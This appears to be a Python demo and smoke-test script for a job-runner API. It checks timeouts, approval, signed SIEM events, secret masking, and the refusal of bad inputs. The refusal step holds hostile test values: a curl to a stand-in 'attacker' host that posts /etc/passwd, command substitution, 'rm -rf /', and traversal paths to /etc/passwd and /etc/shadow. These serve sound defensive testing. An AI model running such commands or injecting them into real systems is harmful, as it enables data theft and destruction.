#!/usr/bin/env python3
"""The sample scenario, walked over HTTP as `just demo` runs it against `just up`'s stack
(and the image smoke test against the images), each step's outcome printed.

The steps: the analyst's run of backup-db with its live log and its artifact; a run
ended by its module's timeout; a run waiting for approval, approved by the admin; SIEM
events received and their signatures checked by a receiver this script starts on
127.0.0.1:$DEMO_SIEM_PORT (the api must send there, signed with $DEMO_SIEM_SECRET: `just
demo` restarts it so); an injection attempt and a path traversal refused with the field
named, changing nothing; the run's secret found in no answer, log, artifact, audit
event, SIEM event, service log or database row. Exits 1 if a step fails. Standard library only.

Usage: DEMO_SIEM_PORT=9480 DEMO_SIEM_SECRET=... dev/demo.py [API_URL]
"""
import base64
import hashlib
import hmac
import http.server
import json
import os
import secrets
import shutil
import subprocess
import sys
import threading
import time
import urllib.parse
import urllib.request
from datetime import datetime

from sageclient import ADMIN, ANALYST, base_url, follow, get_json, items, print_line, send

# The api's and the worker's own logs: `just up`'s files, or what DEMO_SERVICE_LOGS names
# (colon-separated), such as the image smoke test's container logs.
SERVICE_LOGS = os.environ.get("DEMO_SERVICE_LOGS",
                              "/var/log/sage/api.log:/var/log/sage/worker.log").split(":")
TIMEOUT_SEC = 3
SLOW_TASK = {
    "name": "demo-timeout",
    "description": "Works longer than its timeout allows (the demo's timeout step)",
    "params": [{"name": "seconds", "type": "integer", "min": 1, "max": 600, "default": 60}],
    "args": ["--seconds", "{seconds}"],
    "env": {},
    "limits": {"timeout_sec": TIMEOUT_SEC, "memory_mb": 128, "cpus": 0.5, "pids": 16,
               "max_output_bytes": 65536},
    "network": "none",
    "approval": {"required": 0},
}


class Walk:
    """The steps and their outcomes; a failed check ends its step, not the walk."""

    def __init__(self):
        self.failed = []

    def step(self, name, body):
        print("\n== %s" % name, flush=True)
        try:
            detail = body()
            print("   ok: %s" % detail, flush=True)
            return True
        except Failure as failure:
            print("   FAILED: %s" % failure, flush=True)
            self.failed.append(name)
            return False

    def finish(self):
        if self.failed:
            print("\ndemo: %d step(s) failed: %s" % (len(self.failed), ", ".join(self.failed)))
            return 1
        print("\ndemo: every step passed")
        return 0


class Failure(Exception):
    pass


def expect(condition, message):
    if not condition:
        raise Failure(message)


class Siem:
    """A SIEM stand-in on 127.0.0.1: keeps each event it receives and whether its
    signature (HMAC-SHA256 over '<timestamp>.<body>') holds."""

    def __init__(self, port, secret):
        self.secret = secret
        self.events = []
        siem = self

        class Handler(http.server.BaseHTTPRequestHandler):
            def do_POST(self):
                body = self.rfile.read(int(self.headers.get("Content-Length", "0")))
                signed = ("%s." % self.headers.get("X-Sage-Timestamp", "")).encode() + body
                want = "sha256=" + hmac.new(siem.secret.encode(), signed, hashlib.sha256).hexdigest()
                valid = hmac.compare_digest(want, self.headers.get("X-Sage-Signature", ""))
                siem.events.append({"action": self.headers.get("X-Sage-Event"),
                                    "valid": valid, "body": body.decode("utf-8", "replace")})
                self.send_response(204)
                self.end_headers()

            def log_message(self, *args):
                pass

        self.server = http.server.ThreadingHTTPServer(("127.0.0.1", port), Handler)
        threading.Thread(target=self.server.serve_forever, daemon=True).start()

    def received(self, action, target):
        return [e for e in self.events
                if e["action"] == action and (json.loads(e["body"]).get("target_id") == target)]


def module_named(base, user, name):
    return next((m for m in items(get_json(base, "/api/v1/modules?limit=500", user))
                 if m.get("name") == name), None)


def wait_terminal(base, execution_id, user, timeout=60):
    deadline = time.monotonic() + timeout
    while time.monotonic() < deadline:
        execution = get_json(base, "/api/v1/executions/%s" % execution_id, user)
        if execution.get("finished_at"):
            return execution
        time.sleep(0.3)
    raise Failure("execution %s did not end within %d s" % (execution_id, timeout))


def submit(base, module, user, params):
    answer = send(base, "POST", "/api/v1/modules/%s/executions" % module["id"], user,
                  {"params": params})
    expect(answer.status == 202, "submission answered %d: %s" % (answer.status, answer.body[:300]))
    return answer.json()


def secret_forms(secret):
    raw = secret.encode()
    return {secret, base64.b64encode(raw).decode(), base64.urlsafe_b64encode(raw).decode(),
            raw.hex(), secret[::-1], urllib.parse.quote(secret, safe="")}


class Demo:
    def __init__(self, base):
        self.base = base
        self.secret = "demo-" + secrets.token_urlsafe(24)
        self.seen = {}  # where each text that must not hold the secret came from
        self.run = None

    def backup_params(self, **changes):
        params = {"db_name": "orders", "retention_days": 7, "notify_email": "ops@example.com",
                  "backup_key": self.secret}
        params.update(changes)
        return params

    def main_run(self):
        module = module_named(self.base, ANALYST, "backup-db")
        expect(module is not None, "the analyst sees no backup-db module (just up seeds it)")
        execution = submit(self.base, module, ANALYST, self.backup_params())
        print("   %s runs backup-db: execution %s, %s" % (ANALYST, execution["id"],
                                                       execution["status"]), flush=True)
        lines = []

        def on_line(payload):
            lines.append(payload)
            print_line(payload)

        end, raw = follow(self.base, execution["id"], ANALYST, on_line)
        expect(end is not None, "the log stream closed before the run ended")
        expect(end.get("status") == "succeeded" and end.get("exit_code") == 0,
               "the run ended %s" % end)
        seqs = [line["seq"] for line in lines]
        expect(seqs and seqs == sorted(set(seqs)), "log lines out of order: %s" % seqs[:20])
        self.run = get_json(self.base, "/api/v1/executions/%s" % execution["id"], ANALYST)
        expect(self.run["params"].get("backup_key") == "***", "the secret parameter is not masked")
        self.seen["the live log"] = raw
        self.seen["the execution"] = json.dumps(self.run)
        self.seen["the log as text"] = send(
            self.base, "GET", "/api/v1/executions/%s/logs?format=text" % self.run["id"],
            ANALYST).body.decode("utf-8", "replace")
        return "succeeded, exit code 0, %d log lines streamed live in order" % len(lines)

    def artifact(self):
        expect(self.run is not None, "no run to look at")
        listing = items(get_json(self.base, "/api/v1/executions/%s/artifacts" % self.run["id"],
                                 ANALYST))
        artifact = next((a for a in listing if a["name"] == "backup.log"), None)
        expect(artifact is not None, "backup.log is not among %s" % [a["name"] for a in listing])
        with urllib.request.urlopen(artifact["url"], timeout=30) as response:
            data = response.read()
        digest = hashlib.sha256(data).hexdigest()
        expect(digest == artifact["sha256"], "downloaded sha256 %s, listed %s"
               % (digest, artifact["sha256"]))
        self.seen["the artifact backup.log"] = data.decode("utf-8", "replace")
        print("   download until %s:\n   %s" % (artifact["expires_at"], artifact["url"]))
        return "backup.log (%d bytes) downloaded through its presigned link, sha256 as listed" % len(data)

    def timeout(self):
        module = module_named(self.base, ADMIN, SLOW_TASK["name"])
        if module is None:
            script = self.script("slow_task.py")
            created = send(self.base, "POST", "/api/v1/modules", ADMIN,
                           dict(SLOW_TASK, script_id=script["id"]))
            expect(created.status == 201, "creating %s answered %d: %s"
                   % (SLOW_TASK["name"], created.status, created.body[:300]))
            module = created.json()
            assigned = send(self.base, "PUT", "/api/v1/modules/%s/assignments" % module["id"], ADMIN,
                            {"assignments": [{"user": ANALYST, "permissions": ["run", "view"]}]})
            expect(assigned.status in (200, 204), "assigning answered %d" % assigned.status)
            print("   admin created %s (timeout %d s), assigned to %s"
                  % (SLOW_TASK["name"], TIMEOUT_SEC, ANALYST))
        execution = submit(self.base, module, ANALYST, {"seconds": 60})
        ended = wait_terminal(self.base, execution["id"], ANALYST)
        expect(ended["status"] == "timed_out", "the 60 s task ended %s (%s)"
               % (ended["status"], ended.get("reason")))
        ran = seconds_between(ended["started_at"], ended["finished_at"])
        expect(ran < TIMEOUT_SEC + 5, "it ran %.1f s under a %d s timeout" % (ran, TIMEOUT_SEC))
        return "a 60 s task under a %d s timeout ended timed_out after %.1f s" % (TIMEOUT_SEC, ran)

    def script(self, path):
        created = send(self.base, "POST", "/api/v1/scripts", ADMIN,
                       {"path": path, "interpreter": "python3", "description": "demo"})
        if created.status == 201:
            return created.json()
        known = [s for s in items(get_json(self.base, "/api/v1/scripts?limit=500", ADMIN))
                 if s.get("path") == path]
        expect(known, "registering %s answered %d: %s" % (path, created.status, created.body[:300]))
        return known[0]

    def approval(self):
        module = module_named(self.base, ANALYST, "backup-db-approved")
        expect(module is not None, "the analyst sees no backup-db-approved module")
        execution = submit(self.base, module, ANALYST, self.backup_params())
        expect(execution["status"] == "awaiting_approval", "the run is %s" % execution["status"])
        print("   the run waits: %s" % execution["id"])
        own = send(self.base, "POST", "/api/v1/executions/%s/approve" % execution["id"], ANALYST,
                   {"comment": "my own"})
        expect(own.status == 403, "the requester's own approval answered %d" % own.status)
        print("   the requester's own approval: 403")
        inbox = items(get_json(self.base, "/api/v1/executions?status=awaiting_approval&limit=500",
                               ADMIN))
        expect(any(e["id"] == execution["id"] for e in inbox), "the admin's inbox lacks the run")
        approved = send(self.base, "POST", "/api/v1/executions/%s/approve" % execution["id"], ADMIN,
                        {"comment": "approved in the demo"})
        expect(approved.status == 200, "the admin's approval answered %d: %s"
               % (approved.status, approved.body[:300]))
        ended = wait_terminal(self.base, execution["id"], ANALYST)
        expect(ended["status"] == "succeeded", "the approved run ended %s" % ended["status"])
        self.approved = ended
        self.seen["the approved execution"] = json.dumps(ended)
        return "waited for approval, approved by %s, then succeeded" % ADMIN

    def refusals(self):
        module = module_named(self.base, ANALYST, "backup-db")
        expect(module is not None, "the analyst sees no backup-db module")
        before = items(get_json(self.base, "/api/v1/executions?limit=1", ANALYST))
        outcomes = []
        for field, value in [("notify_email", "ops@example.com; curl http://attacker/ -d @/etc/passwd"),
                             ("db_name", "orders$(id)"),
                             ("retention_days", "7 && rm -rf /")]:
            answer = send(self.base, "POST", "/api/v1/modules/%s/executions" % module["id"],
                          ANALYST, {"params": self.backup_params(**{field: value})})
            expect(answer.status == 400 and "params." + field in answer.fields(),
                   "%s=%r answered %d naming %s" % (field, value, answer.status, answer.fields()))
            outcomes.append("%s %r: 400 naming params.%s" % (field, value, field))
        after = items(get_json(self.base, "/api/v1/executions?limit=1", ANALYST))
        expect(before == after, "a refused submission left a run behind")
        scripts_before = len(items(get_json(self.base, "/api/v1/scripts?limit=500", ADMIN)))
        for path in ["../../etc/passwd", "/etc/passwd", "%2e%2e/%2e%2e/etc/shadow"]:
            answer = send(self.base, "POST", "/api/v1/scripts", ADMIN,
                          {"path": path, "interpreter": "python3"})
            expect(400 <= answer.status < 500 and "path" in answer.fields(),
                   "script path %r answered %d naming %s" % (path, answer.status, answer.fields()))
            outcomes.append("script path %r: %d naming path" % (path, answer.status))
        scripts_after = len(items(get_json(self.base, "/api/v1/scripts?limit=500", ADMIN)))
        expect(scripts_before == scripts_after, "a refused script was registered")
        for line in outcomes:
            print("   " + line)
        return "every injection and traversal refused with its field, nothing recorded"

    def siem(self, receiver):
        expect(self.run is not None, "no run to look for")
        wanted = [("execution.submit", self.run["id"]), ("execution.finish", self.run["id"])]
        if getattr(self, "approved", None):
            wanted.append(("execution.approve", self.approved["id"]))
        deadline = time.monotonic() + 30
        while time.monotonic() < deadline and not all(receiver.received(*w) for w in wanted):
            time.sleep(0.5)
        for action, target in wanted:
            events = receiver.received(action, target)
            expect(events, "no %s event for %s reached the receiver" % (action, target))
            expect(all(e["valid"] for e in events), "a %s event's signature is wrong" % action)
        expect(all(e["valid"] for e in receiver.events), "an event's signature is wrong")
        self.seen["the SIEM events"] = "\n".join(e["body"] for e in receiver.events)
        return "%d signed events received, among them %s" % (
            len(receiver.events), ", ".join(action for action, _ in wanted))

    def secret_nowhere(self):
        expect(self.seen, "nothing was gathered to look in")
        self.seen["the audit trail"] = send(self.base, "GET", "/api/v1/audit?limit=500",
                                            ADMIN).body.decode("utf-8", "replace")
        for path in SERVICE_LOGS:
            if os.path.exists(path):
                with open(path, "rb") as log:
                    self.seen[path] = log.read().decode("utf-8", "replace")
        database = os.environ.get("DATABASE_URL")
        if database and shutil.which("pg_dump"):
            dump = subprocess.run(["pg_dump", "--data-only", database], capture_output=True)
            expect(dump.returncode == 0, "pg_dump failed: %s" % dump.stderr.decode()[:300])
            self.seen["every row of the database"] = dump.stdout.decode("utf-8", "replace")
        forms = secret_forms(self.secret)
        found = [place for place, text in self.seen.items() if any(f in text for f in forms)]
        expect(not found, "the secret appears in %s" % ", ".join(found))
        return "looked in %s: absent in every form (plain, base64, hex, reversed, URL-encoded)" % (
            ", ".join(self.seen))


def seconds_between(start, end):
    return (datetime.fromisoformat(end) - datetime.fromisoformat(start)).total_seconds()


def main(argv):
    base = base_url(argv)
    port, secret = os.environ.get("DEMO_SIEM_PORT"), os.environ.get("DEMO_SIEM_SECRET")
    if not (port and secret):
        print(__doc__, file=sys.stderr)
        return 2
    receiver = Siem(int(port), secret)
    walk = Walk()
    demo = Demo(base)
    walk.step("The stack answers", lambda: ready(base))
    walk.step("The analyst runs backup-db, its log live", demo.main_run)
    walk.step("Its artifact", demo.artifact)
    walk.step("A timeout is enforced", demo.timeout)
    walk.step("A run waits for approval and the admin approves it", demo.approval)
    walk.step("Injection and path traversal are refused", demo.refusals)
    walk.step("The SIEM receives the events, signed", lambda: demo.siem(receiver))
    walk.step("The secret is found nowhere", demo.secret_nowhere)
    return walk.finish()


def ready(base):
    answer = send(base, "GET", "/ready", ANALYST)
    expect(answer.status == 200, "/ready answered %d: %s" % (answer.status, answer.body[:300]))
    return ", ".join("%s %s" % check for check in sorted((answer.json().get("checks") or {}).items()))


if __name__ == "__main__":
    sys.exit(main(sys.argv))
